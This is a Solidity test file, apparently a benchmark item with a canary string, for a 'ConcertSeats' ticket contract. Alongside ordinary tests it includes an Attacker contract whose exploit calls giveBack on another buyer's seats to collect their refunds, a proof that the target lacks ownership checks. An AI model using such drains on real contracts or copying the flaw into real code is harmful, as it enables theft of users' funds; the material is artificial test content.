// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ConcertSeats.sol";

// assay-canary-0c9edded-d2d5-4f6a-895c-84cb48388e54

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = payable(address(0xA9A));
    address payable private constant BEN = payable(address(0xBE9));
    address payable private constant OWNER = payable(address(0x09E));
    uint256 private constant START = 1_700_000_000;

    ConcertSeats private hall;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        hall = new ConcertSeats(100, 2 ether, START + 10 days, OWNER);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        for (uint256 seat = 0; seat < 5; seat++) {
            vm.prank(ANA);
            hall.buy{value: 2 ether}(seat);
        }
        mallory = new Attacker(hall);
    }

    function test_Regular() public {
        vm.prank(BEN);
        hall.buy{value: 2 ether}(99);
        require(hall.ownerOf(99) == BEN && hall.balanceOf(ANA) == 5, "bought");
        vm.startPrank(ANA);
        hall.transferFrom(ANA, BEN, 0);
        hall.safeTransferFrom(ANA, BEN, 1);
        hall.safeTransferFrom(ANA, BEN, 2, "");
        hall.giveBack(3, ANA);
        require(ANA.balance == 12 ether && hall.balanceOf(ANA) == 1, "returned");
        hall.approve(BEN, 4);
        vm.stopPrank();
        vm.startPrank(BEN);
        hall.giveBack(4, BEN);
        require(BEN.balance == 20 ether && hall.balanceOf(ANA) == 0, "approved");
        hall.buy{value: 2 ether}(3);
        hall.setApprovalForAll(ANA, true);
        vm.stopPrank();
        vm.warp(START + 9 days);
        vm.prank(ANA);
        hall.giveBack(3, BEN);
        vm.warp(START + 10 days);
        vm.prank(OWNER);
        hall.collect(OWNER);
        require(OWNER.balance == 8 ether && address(hall).balance == 0, "collected");
        vm.prank(OWNER);
        hall.transferOwnership(ANA);
        vm.prank(ANA);
        hall.renounceOwnership();
    }

    function test_RefusesOpening() public {
        vm.expectRevert(abi.encodeWithSelector(ConcertSeats.BadSchedule.selector, START + 1 days));
        new ConcertSeats(1, 1, START + 1 days, OWNER);
    }

    function test_RefusesBuyers() public {
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ConcertSeats.NoSuchSeat.selector, 100));
        hall.buy{value: 2 ether}(100);
        vm.expectRevert(abi.encodeWithSelector(ConcertSeats.WrongPayment.selector, 1 ether, 2 ether));
        hall.buy{value: 1 ether}(6);
        vm.expectRevert();
        hall.buy{value: 2 ether}(0);
        vm.warp(START + 10 days);
        vm.expectRevert(abi.encodeWithSelector(ConcertSeats.TooLate.selector, START + 10 days));
        hall.buy{value: 2 ether}(6);
        vm.stopPrank();
    }

    function test_RefusesReturns() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(bytes4(keccak256("ERC721NonexistentToken(uint256)")), 50));
        hall.giveBack(50, ANA);
        vm.warp(START + 9 days + 1);
        vm.expectRevert(abi.encodeWithSelector(ConcertSeats.TooLate.selector, START + 10 days));
        hall.giveBack(0, ANA);
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.prank(OWNER);
        vm.expectRevert(abi.encodeWithSelector(ConcertSeats.TooEarly.selector, START + 10 days));
        hall.collect(OWNER);
        vm.warp(START + 10 days);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        hall.collect(BEN);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 10 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(hall);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ConcertSeats private hall;

    constructor(ConcertSeats h) {
        hall = h;
    }

    function run() external {
        for (uint256 seat = 0; seat < 5; seat++) {
            hall.giveBack(seat, payable(address(this)));
        }
    }

    receive() external payable {}
}
